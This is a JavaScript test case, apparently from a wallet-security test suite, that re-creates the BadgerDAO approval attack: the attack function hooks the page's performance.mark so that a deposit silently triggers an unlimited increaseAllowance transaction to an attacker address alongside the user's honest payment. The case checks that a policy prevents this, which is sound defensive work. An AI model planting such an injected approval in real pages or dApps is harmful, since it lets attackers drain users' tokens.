// B04: next to the payment that the user asked for, an approval that nobody asked for.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'B04',
  title: 'extra approval beside an honest payment',
  source: 'BadgerDAO, November and December 2021',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`], contracts: [`${a.chain}:${a.TOKEN}`] }),

  attack(a) {
    const data = `0x39509351${a.EVIL.slice(2).padStart(64, '0')}${'f'.repeat(64)}`;
    const approve = { from: a.USER, to: a.TOKEN, data };
    // The page's own words for it: whoever reads the prompt has just asked for something.
    const marks = performance.mark.bind(performance);
    performance.mark = (name) => {
      if (name === 'deposit')
        window.ethereum.request({ method: 'eth_sendTransaction', params: [approve] }).catch(() => {});
      return marks(name);
    };
  },

  async action(a, app) {
    performance.mark('deposit');
    return app.pay(a.GOOD, 5n);
  },

  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD),
  violation: (a) => ({ surface: 'eip1193', role: 'spender', account: a.EVIL, grade: 'authority' }),
};
